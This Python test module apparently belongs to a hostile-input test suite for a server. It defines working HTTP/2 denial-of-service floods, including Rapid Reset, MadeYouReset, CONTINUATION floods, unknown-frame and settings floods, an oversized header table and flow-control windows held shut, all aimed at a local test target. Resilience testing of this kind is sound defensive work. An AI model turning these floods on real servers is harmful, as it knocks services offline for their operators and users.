"""Floods of HTTP/2: frames by the ten thousand that bring nothing, and answers that nobody lets through."""

from __future__ import annotations

import functools
import json
import socket
import struct
import threading
from collections import Counter
from collections.abc import Callable

from hpack import Encoder

from tests.hostile.attack import ATTACKER_KEY, ELSEWHERE, Counts, Target, attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FLOOD_FRAMES = 20_000
CONNECTIONS = 2
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def _frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _head(path: str, stream: int, *, ends: bool, **more: str) -> bytes:
    return _frame(HEADERS, _block(path, ends=ends, **more), 5 if ends else 4, stream)


@functools.lru_cache(maxsize=16)
def _block(path: str, *, ends: bool, **more: str) -> bytes:
    encoder = Encoder()
    encoder.header_table_size = 0
    fields = {":method": "GET" if ends else "POST", ":scheme": "http", ":authority": "a", ":path": path}
    fields |= {"authorization": f"Bearer {ATTACKER_KEY}", "content-type": "application/json"}
    fields |= {name.replace("_", "-"): value for name, value in more.items()}
    return encoder.encode(list(fields.items()))


def _connect(target: Target, settings: bytes = b"") -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", target.port), timeout=1, source_address=(ELSEWHERE, 0))
    connection.sendall(PREFACE + _frame(SETTINGS, settings))
    return connection


def _flood(target: Target, make: Callable[[], bytes]) -> Counts:
    """Send the same bytes on connection after connection, as long as the server takes them."""
    seen: Counter[str] = Counter()
    wire = make()

    def flood() -> None:
        for _ in target.rounds():
            seen["connections"] += 1
            try:
                with _connect(target) as connection:
                    for at in range(0, len(wire), 2**16):
                        connection.sendall(wire[at : at + 2**16])
                        seen["bytes"] += 2**16
                    while connection.recv(2**16) and target.left_s > 0:
                        pass
            except TimeoutError:
                seen["not answered"] += 1
            except OSError:
                seen["cut off"] += 1

    threads = [threading.Thread(target=flood) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return seen


@attack("HTTP/2: streams opened and reset (F7, CVE-2023-44487)")
def rapid_reset(target: Target) -> Counts:
    streams = range(1, FLOOD_FRAMES, 2)
    cancel = (8).to_bytes(4, "big")
    return _flood(
        target, lambda: b"".join(_head("/health", s, ends=True) + _frame(RST_STREAM, cancel, 0, s) for s in streams)
    )


@attack("HTTP/2: streams that the server must reset (CVE-2025-8671)")
def made_you_reset(target: Target) -> Counts:
    streams = range(1, FLOOD_FRAMES, 2)
    too_far = (2**31 - 1).to_bytes(4, "big")
    return _flood(
        target,
        lambda: b"".join(
            _head("/v1/embeddings", s, ends=False) + _frame(WINDOW_UPDATE, too_far, 0, s) for s in streams
        ),
    )


@attack("HTTP/2: PING, SETTINGS, PRIORITY, windows, empty and unknown frames (F7)")
def frames_that_bring_nothing(target: Target) -> Counts:
    kinds = [
        _frame(PING, b"12345678"),
        _frame(SETTINGS, struct.pack(">HI", 4, 2**16)),
        _frame(PRIORITY, b"\0\0\0\0\x10", 0, 3),
        _frame(WINDOW_UPDATE, b"\0\0\0\1"),
        _frame(DATA, b"", 0, 1),
        _frame(0x77),
    ]
    return _flood(target, lambda: _head("/v1/embeddings", 1, ends=False) + b"".join(kinds) * (FLOOD_FRAMES // 6))


@attack("HTTP/2: heads in endless CONTINUATION frames (CVE-2024-27316)")
def endless_heads(target: Target) -> Counts:
    return _flood(
        target, lambda: _frame(HEADERS, b"\x82", 0, 1) + (_frame(CONTINUATION, b"", 0, 1) * 60) * (FLOOD_FRAMES // 60)
    )


@attack("HTTP/2: settings that nobody knows, 65,000 of them")
def unknown_settings(target: Target) -> Counts:
    frames = [
        _frame(SETTINGS, b"".join(struct.pack(">HI", name, 7) for name in range(first, first + 2700)))
        for first in range(16, 64_000, 2700)
    ]
    return _flood(target, lambda: b"".join(frames))


@attack("HTTP/2: a table of headers of 1 GiB (F4)")
def large_table(target: Target) -> Counts:
    """Send a new id with each request: it returns in the head of the answer."""
    seen: Counter[str] = Counter()
    with _connect(target, struct.pack(">HI", 1, 2**30)) as connection:
        stream = 1
        for _ in target.rounds():
            heads = [_head("/health", stream + 2 * k, ends=True, x_request_id=f"{stream}-{k}") for k in range(50)]
            connection.sendall(b"".join(heads) + _frame(WINDOW_UPDATE, b"\0\x10\0\0"))
            stream += 100
            seen["requests"] += 50
            _take(connection, 50)
    return seen


def _take(connection: socket.socket, answers: int) -> None:
    """Read until `answers` streams have ended."""
    buffer = b""
    while answers > 0 and (data := connection.recv(2**16)):
        buffer += data
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            answers -= buffer[3] in (DATA, HEADERS) and buffer[4] & 1
            buffer = buffer[9 + int.from_bytes(buffer[:3], "big") :]


@attack("HTTP/2: answers whose windows stay shut", work_s=0.5)
def shut_windows(target: Target) -> Counts:
    """Ask for a hundred answers of 800 KB on each connection, and let none through."""
    seen: Counter[str] = Counter()
    body = json.dumps({"input": ["word"] * 200}).encode()
    connections: list[socket.socket] = []
    for _ in target.rounds():
        try:
            connection = _connect(target, struct.pack(">HI", 4, 0))
            connections.append(connection)
            for stream in range(1, 41, 2):
                upload = _frame(DATA, body, 1, stream)
                connection.sendall(_head("/v1/embeddings", stream, ends=False) + upload)
                seen["streams"] += 1
            connection.recv(2**16)
        except TimeoutError:
            seen["not answered"] += 1
        except OSError:
            seen["cut off"] += 1
    for connection in connections:
        connection.close()
    return seen
